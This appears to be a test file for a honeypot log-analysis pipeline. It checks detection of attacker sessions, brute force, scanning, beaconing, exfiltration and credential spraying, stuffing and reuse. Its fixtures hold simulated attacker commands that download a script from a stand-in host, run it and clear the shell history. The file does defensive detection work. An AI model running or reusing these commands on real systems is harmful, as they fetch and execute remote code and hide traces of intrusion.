import { createHash } from "node:crypto";
import { describe, expect, test } from "vitest";
import { asRead } from "#collect";
import { cowrie, eventsFrom, lifted } from "./testing/lines.ts";

const fieldsOf = (lines: readonly string[], action: string) =>
  lifted(eventsFrom(lines))
    .derived.filter((event) => event.action === action)
    .map((event) => event.fields);

type Request = Readonly<{ bytes: number; status?: number; agent?: string }>;

const access = (second: number, path: string, { bytes, status = 200, agent = "Mozilla/5.0" }: Request): string => {
  const clock = new Date(Date.UTC(2026, 2, 1) + second * 1_000).toISOString().slice(11, 19);
  return `203.0.113.9 - - [01/Mar/2026:${clock} +0000] "GET ${path} HTTP/1.1" ${status} ${bytes} "-" "${agent}"`;
};
const login = (second: number, username: string, more: string | Readonly<Record<string, unknown>>): string =>
  cowrie(second, { eventid: "login.failed", username, ...(typeof more === "string" ? { password: more } : more) });

describe("sessions at a decoy", () => {
  const inside = [
    cowrie(0, { eventid: "session.connect" }),
    cowrie(1, { eventid: "login.failed", username: "root", password: "a" }),
    cowrie(2, { eventid: "login.success", username: "root", password: "b" }),
    cowrie(5, { eventid: "command.input", input: "uname -a; cd /tmp && wget http://192.0.2.1/x.sh" }),
    cowrie(7, { eventid: "command.input", input: "/bin/chmod 777 x.sh; ./x.sh; history -c" }),
    cowrie(8, { eventid: "session.file_download", shasum: "00", url: "http://192.0.2.1/x.sh" }),
    cowrie(9.5, { eventid: "session.closed" }),
  ];

  test("are told of when they end, with what was done in them", () => {
    expect(fieldsOf(inside, "session.ended")).toEqual([
      {
        "session.scope": "decoy",
        "session.end": "closed",
        "session.service": "ssh",
        "session.event_count": 7,
        "session.duration_s": 9.5,
        "session.login_failures": 1,
        "session.login_successes": 1,
        "session.command_count": 2,
        "session.file_count": 1,
        "session.tunnel_count": 0,
        "session.phases": ["discovery", "command_and_control", "execution", "defense_evasion"],
      },
    ]);
  });

  test("send a message that must arrive, with the commands as they were typed", () => {
    const { messages } = lifted(eventsFrom(inside));
    expect(messages).toHaveLength(1);
    expect(messages[0]).toMatchObject({
      family: "attacker.session.ended",
      payload: {
        session_id: "s1",
        attacker_ip: "203.0.113.9",
        observation_id: expect.stringMatching(/^atk_/),
        service: "ssh",
        duration_s: 9.5,
        command_count: 2,
        commands: [
          { id: "s1#0", command_text: "uname -a; cd /tmp && wget http://192.0.2.1/x.sh" },
          { id: "s1#1", command_text: "/bin/chmod 777 x.sh; ./x.sh; history -c" },
        ],
      },
    });
  });

  test("end without a word when their sensor has gone on for an hour, and not because of another sensor", () => {
    const open = eventsFrom(inside.slice(0, 4), { sensor: "snr_a" });
    const later = [cowrie(4_000, { eventid: "session.connect", session: "s2", src_ip: "203.0.113.10" })];
    const ended = (sensor: string) =>
      lifted([...open, ...eventsFrom(later, { from: 9, sensor })], false).derived.map(
        ({ fields }) => fields["session.end"],
      );
    expect(ended("snr_b")).toEqual([]);
    expect(ended("snr_a")).toContain("idle");
  });

  test("that nobody got into are no session of their own: the visit tells of them", () => {
    const knocked = [...inside.slice(0, 2), cowrie(3, { eventid: "session.closed" })];
    expect(lifted(eventsFrom(knocked)).derived.map(({ action }) => action)).toEqual(["visit.ended"]);
  });

  test("hold so many commands and no more, however much is typed", () => {
    const typed = Array.from({ length: 400 }, (_, second) =>
      cowrie(second, { eventid: "command.input", input: `echo ${"A".repeat(500)}` }),
    );
    const { messages } = lifted(eventsFrom([...typed, cowrie(500, { eventid: "session.closed" })]));
    const [message] = messages;
    if (message?.family !== "attacker.session.ended") throw new Error("a session ended");
    expect(message.payload.command_count).toBe(400);
    expect(message.payload.commands.length).toBeLessThan(40);
  });
});

describe("visits of an address", () => {
  test("have the class, the rhythm and the tools that show in them", () => {
    const guessing = Array.from({ length: 10 }, (_, second) => login(second, "root", `p${second}`));
    expect(fieldsOf(guessing, "visit.ended")).toMatchObject([
      {
        "session.class": "brute_force",
        "session.event_count": 10,
        "session.interval_mean_s": 1,
        "session.interval_cv": 0,
        "session.services": ["ssh"],
        "session.login_failures": 10,
      },
    ]);
    const scanning = [
      cowrie(0, { eventid: "session.connect", protocol: "telnet" }),
      cowrie(1, { eventid: "session.connect", session: "s2" }),
      access(2, "/", { bytes: 5, agent: "Mozilla/5.00 (Nikto/2.5.0)" }),
    ];
    expect(fieldsOf(scanning, "visit.ended")).toMatchObject([
      { "session.class": "scanning", "session.service_count": 3, "session.tools": ["nikto"] },
    ]);
  });

  test("are another visit after half an hour of silence", () => {
    const twice = [0, 1, 2, 1_803, 1_804, 1_805].map((second) => login(second, "root", "x"));
    expect(fieldsOf(twice, "visit.ended").map((fields) => fields["session.event_count"])).toEqual([3, 3]);
  });

  test("of a decoy that somebody looks for every minute are a beacon, and may be a known tool", () => {
    const seconds = [0, 60, 108, 172, 226, 300, 350];
    const beats = seconds.map((second, place) => cowrie(second, { eventid: "session.connect", session: `b${place}` }));
    const [visit] = fieldsOf(beats, "visit.ended");
    expect(visit).toMatchObject({ "session.class": "beaconing", "session.tools_by_cadence": ["cobalt_strike"] });
  });
});

describe("flows", () => {
  test("with a steady beat are told as soon as it shows, once", () => {
    const beats = Array.from({ length: 12 }, (_, beat) =>
      cowrie(beat * 30, { eventid: "session.connect", session: `b${beat}` }),
    );
    expect(fieldsOf(beats, "session.beaconing")).toMatchObject([
      {
        "session.behaviour": "beaconing",
        "session.contact_count": 6,
        "session.beacon_interval_s": 30,
        "session.beacon_jitter": 0,
      },
    ]);
  });

  test("without a steady beat, or with a fast one, are no beacons", () => {
    const irregular = [0, 30, 90, 100, 160, 200, 290, 300].map((second) =>
      cowrie(second, { eventid: "session.connect" }),
    );
    const fast = Array.from({ length: 20 }, (_, beat) => cowrie(beat * 5, { eventid: "session.connect" }));
    expect(fieldsOf(irregular, "session.beaconing")).toEqual([]);
    expect(fieldsOf(fast, "session.beaconing")).toEqual([]);
  });

  test("that carry a megabyte of dumps and archives away are told, pages and refusals are not", () => {
    const half = 600_000;
    expect(
      fieldsOf(
        [access(0, "/backup/site.sql", { bytes: half }), access(9, "/a.tar.gz?x=1", { bytes: half })],
        "session.exfiltration",
      ),
    ).toEqual([expect.objectContaining({ "session.bytes_out": 2 * half })]);
    expect(
      fieldsOf(
        [access(0, "/a.html", { bytes: 9_000_000 }), access(1, "/b.zip", { bytes: 9_000_000, status: 404 })],
        "session.exfiltration",
      ),
    ).toEqual([]);
    expect(
      fieldsOf(
        [access(0, "/a.zip", { bytes: half }), access(4_000, "/b.zip", { bytes: half })],
        "session.exfiltration",
      ),
    ).toEqual([]);
  });

  test("in which a database gives up ten thousand rows are told", () => {
    const query = (second: number, rows: number): string =>
      JSON.stringify({
        timestamp: `2026-03-01T00:00:0${second}Z`,
        event_type: "sql_query",
        src_ip: "203.0.113.9",
        protocol: "mysql",
        rows_returned: rows,
      });
    expect(fieldsOf([query(0, 9_000), query(1, 1_000), query(2, 5)], "session.mass_read")).toEqual([
      expect.objectContaining({ "session.rows_read": 10_000 }),
    ]);
    expect(fieldsOf([query(0, 9_999)], "session.mass_read")).toEqual([]);
  });
});

describe("credentials", () => {
  test("of which one secret is tried at three accounts are sprayed; a dictionary is not", () => {
    const spraying = ["ann", "bob", "eve"].map((user, second) => login(second, user, "Winter2026!"));
    expect(fieldsOf(spraying, "credential.sprayed")).toEqual([
      {
        "credential.secret_kind": "plaintext",
        "credential.secret_hash": expect.stringMatching(/^[0-9a-f]{32}$/),
        "credential.account_count": 3,
      },
    ]);
    const dictionary = ["a1", "b2", "c3", "d4", "Winter2026!"].flatMap((secret, place) =>
      ["ann", "bob", "eve"].map((user, second) =>
        login(place * 3 + second, user, `${secret}${place === 4 ? "" : second}`),
      ),
    );
    expect(fieldsOf(dictionary, "credential.sprayed")).toEqual([]);
  });

  test("that come as pairs of a leaked list are stuffed; everybody's pairs are not", () => {
    const leaked = Array.from({ length: 12 }, (_, place) => login(place, `user${place}@mail.example`, `x9${place}Qk!`));
    expect(fieldsOf(leaked, "credential.stuffed")).toEqual([
      { "credential.attempt_count": 10, "credential.account_count": 10, "credential.secret_count": 10 },
    ]);
    const factory = Array.from({ length: 12 }, (_, place) => login(place, `device${place}`, `device${place}123`));
    expect(fieldsOf(factory, "credential.stuffed")).toEqual([]);
  });

  test("tried again at another target are told of, whoever tries them; everybody's pairs are not", () => {
    const both = (user: string, secret: string) => [
      login(0, user, secret),
      login(90, user, { password: secret, src_ip: "198.51.100.4", protocol: "telnet" }),
    ];
    expect(fieldsOf(both("deploy", "kX8-hedge"), "credential.reused")).toEqual([
      expect.objectContaining({
        "credential.target_count": 2,
        "credential.source_count": 2,
        "credential.attempt_count": 2,
      }),
    ]);
    expect(fieldsOf(both("root", "123456"), "credential.reused")).toEqual([]);
    expect(fieldsOf(both("mysql", "Mysql!"), "credential.reused")).toEqual([]);
  });

  test("are told apart up to a limit: neither a dictionary of secrets nor one of accounts fills memory or table", () => {
    const secrets = Array.from({ length: 200 }, (_, place) => login(place, "root", `secret ${place}`));
    const accounts = Array.from({ length: 200 }, (_, place) => login(place, `user ${place}`, "Winter2026!"));
    expect(lifted(eventsFrom(secrets)).tried).toHaveLength(64);
    expect(lifted(eventsFrom(accounts)).tried).toHaveLength(16);
  });

  test("never show a secret: not in events, not in messages, not in a hash anybody else could make", () => {
    const secrets = ["hunter2-planted", "kX8-planted"];
    const lines = secrets.flatMap((secret) =>
      ["ann", "bob", "eve"].flatMap((user, second) => [
        login(second, user, secret),
        login(second + 60, user, { password: secret, protocol: "telnet" }),
      ]),
    );
    const { derived, messages, tried, said } = lifted(eventsFrom(lines));
    expect(derived.map(({ action }) => action)).toContain("credential.reused");
    const written = JSON.stringify([derived.map(asRead), messages, tried, said.map(({ payload }) => payload())]);
    expect(said.length).toBeGreaterThan(0);
    for (const secret of secrets) {
      expect(written).not.toContain(secret);
      // What anybody could compute and look up.
      for (const algorithm of ["sha256", "sha1", "md5"])
        expect(written).not.toContain(createHash(algorithm).update(secret).digest("hex").slice(0, 16));
    }
  });
});
